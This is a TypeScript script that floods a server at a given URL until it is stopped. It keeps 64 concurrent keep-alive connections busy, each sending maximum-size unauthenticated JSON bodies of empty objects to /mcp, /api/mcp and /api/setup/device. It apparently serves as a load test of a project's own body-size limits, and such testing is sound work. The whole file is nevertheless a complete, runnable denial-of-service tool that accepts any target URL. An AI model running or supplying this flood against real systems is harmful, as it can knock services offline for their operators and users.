/**
 * Floods the server until this process is stopped. 64 connections send request bodies one after another, each of the largest size that callers without a token
 * may send.
 */
import { Agent, request } from 'node:http';

const [url = ''] = process.argv.slice(2);
const objects = (bytes: number): Buffer => Buffer.from(`[${'{},'.repeat(Math.floor(bytes / 3) - 1)}{}]`);
const ATTACKS = [
  { path: '/mcp', body: objects(8 * 1024 * 1024) },
  { path: '/api/mcp', body: objects(64 * 1024) },
  { path: '/api/setup/device', body: objects(4 * 1024) },
];
const agent = new Agent({ keepAlive: true, maxSockets: 64 });

function send(path: string, body: Buffer): Promise<void> {
  return new Promise((resolve) => {
    const sent = request(`${url}${path}`, { method: 'POST', agent, headers: { 'content-type': 'application/json' } }, (answer) => {
      answer.resume();
      answer.once('close', resolve);
    });
    sent.on('error', () => resolve());
    sent.end(body);
  });
}

process.stdout.write(`${JSON.stringify({ url })}\n`);
await Promise.all(
  Array.from({ length: 64 }, async (_, index) => {
    for (let round = index; ; round++) {
      const { path, body } = ATTACKS[round % ATTACKS.length] as (typeof ATTACKS)[number];
      await send(path, body);
    }
  }),
);
